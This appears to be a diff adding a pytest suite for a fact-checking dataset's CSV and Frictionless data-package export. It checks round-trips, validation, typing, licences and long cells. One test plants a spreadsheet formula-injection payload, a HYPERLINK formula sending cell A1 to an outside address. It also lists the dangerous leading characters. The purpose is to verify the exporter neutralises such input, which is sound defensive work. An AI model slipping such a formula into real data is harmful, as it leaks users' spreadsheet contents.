@@ -1,0 +1,145 @@
+"""CSV and its data package, read with what their users read them with."""
+
+import csv
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import frictionless
+import pandas as pd
+import pytest
+from hypothesis import HealthCheck, given, settings
+
+from factcheck.dataset.columns import COLUMNS, row
+from factcheck.dataset.export import About
+from factcheck.dataset.export.frictionless import read_rows
+from factcheck.dataset.opening import open_dataset
+from factcheck.domain import Dataset, Evidence
+from tests.dataset.export.exported import EMPTY, exported
+from tests.dataset.samples import DATASET
+from tests.dataset.strategies import datasets
+
+PLAIN = settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
+
+
+def report_of(package: Path) -> Any:  # noqa: ANN401 - untyped
+    """Return what the validator of Frictionless finds."""
+    return frictionless.validate(str(package))
+
+
+def hostile(note: str) -> Dataset:
+    """Return the sample with a note of an annotator's."""
+    claims = (replace(DATASET.claims[0], evidence=Evidence(note=note)), *DATASET.claims[1:])
+    return replace(DATASET, claims=claims)
+
+
+@PLAIN
+@given(dataset=datasets())
+def test_rows_come_back_as_they_were(dataset: Dataset, tmp_path: Path) -> None:
+    """Formulas, quotes, line breaks of all kinds, NUL."""
+    table, _ = exported(tmp_path, dataset, "csv")
+
+    with open_dataset(tmp_path / "claims.json") as opened:
+        assert list(read_rows(table)) == [row(each) for each in opened.claims()]
+
+
+@settings(PLAIN, max_examples=25)
+@given(dataset=datasets())
+def test_any_export_is_a_valid_data_package(dataset: Dataset, tmp_path: Path) -> None:
+    """Types, choices, keys and hash, as the package tells them."""
+    _, package = exported(tmp_path, dataset, "csv")
+
+    report = report_of(package)
+
+    assert report.valid, report.flatten(["type", "message"])
+
+
+def test_an_empty_dataset_is_a_valid_data_package(tmp_path: Path) -> None:
+    """A table of headings alone."""
+    table, package = exported(tmp_path, EMPTY, "csv")
+
+    assert report_of(package).valid
+    assert table.read_text("utf-8").splitlines() == [",".join(each.name for each in COLUMNS)]
+
+
+def test_a_wrong_table_is_found_by_its_package(tmp_path: Path) -> None:
+    """The package says enough to see a verdict that is none, and a score of 2."""
+    table, package = exported(tmp_path, DATASET, "csv")
+    text = table.read_text("utf-8").replace("Supported", "Maybe").replace("0.75", "2")
+    table.write_text(text, encoding="utf-8", newline="")
+
+    found = {tuple(each) for each in report_of(package).flatten(["fieldName", "type"])}
+
+    assert {("verdict", "constraint-error"), ("score", "constraint-error")} <= found
+
+
+def test_rows_are_typed_for_whoever_reads_the_package(tmp_path: Path) -> None:
+    """Lists are lists, moments moments, numbers numbers, nothing is None."""
+    _, package = exported(tmp_path, DATASET, "csv")
+
+    first, second = frictionless.Package(str(package)).get_resource("claims").read_rows()
+
+    assert first["created"].isoformat() == "2023-10-01T09:00:00.500000+00:00"
+    assert (first["labels"], first["content_start"], first["content_end"]) == (
+        ["Kremlin"],
+        [19],
+        [40],
+    )
+    assert (float(first["score"]), first["withdrawn"]) == (0.75, False)
+    assert (second["score"], second["url"], second["labels"]) == (None, None, ["Kremlin", "Other"])
+
+
+def test_no_cell_runs_in_a_spreadsheet(tmp_path: Path) -> None:
+    """What was written is text to it; our reader gives the note back."""
+    note = '=HYPERLINK("https://example.org/?leak="&A1)'
+    table, _ = exported(tmp_path, hostile(note), "csv")
+
+    with table.open(encoding="utf-8", newline="") as file:
+        cells = [cell for cells in csv.reader(file) for cell in cells]
+    assert f"'{note}" in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert next(read_rows(table))["evidence_note"] == note
+
+
+def test_pandas_reads_the_table_as_it_is(tmp_path: Path) -> None:
+    """With a comma, quotes and line breaks in a cell."""
+    note = 'One, "two",\r\nthree'
+    table, _ = exported(tmp_path, hostile(note), "csv")
+
+    frame = pd.read_csv(table)
+
+    assert list(frame.columns) == [each.name for each in COLUMNS]
+    assert (len(frame), frame.evidence_note[0], frame.lead_time[0]) == (2, note, 61.5)
+
+
+@pytest.mark.parametrize(
+    ("licence", "told"),
+    [
+        ("", None),
+        ("CC-BY-4.0", [{"name": "CC-BY-4.0"}]),
+        ("https://example.org/terms", [{"path": "https://example.org/terms"}]),
+    ],
+)
+def test_the_licence_is_what_was_given(licence: str, told: object, tmp_path: Path) -> None:
+    """An id, an address, or nothing."""
+    _, package = exported(tmp_path, DATASET, "csv", About(licence))
+
+    assert frictionless.Package(str(package)).to_descriptor().get("licenses") == told
+
+
+def test_a_cell_may_be_of_any_length(tmp_path: Path) -> None:
+    """Longer than the 128 KiB that Python's reader takes by itself; pandas and ours read it."""
+    table, _ = exported(tmp_path, hostile("long " * 40_000), "csv")
+
+    assert next(read_rows(table))["evidence_note"] == "long " * 40_000
+    assert pd.read_csv(table).evidence_note[0] == "long " * 40_000
+
+
+@pytest.mark.parametrize("text", ["a,b\r\n1,2\r\n", 'id\r\n"x\r\n'])
+def test_another_table_is_refused(text: str, tmp_path: Path) -> None:
+    """Without our columns, or cut off."""
+    path = tmp_path / "other.csv"
+    path.write_text(text, encoding="utf-8", newline="")
+
+    with pytest.raises(ValueError, match="is no table of claims"):
+        list(read_rows(path))
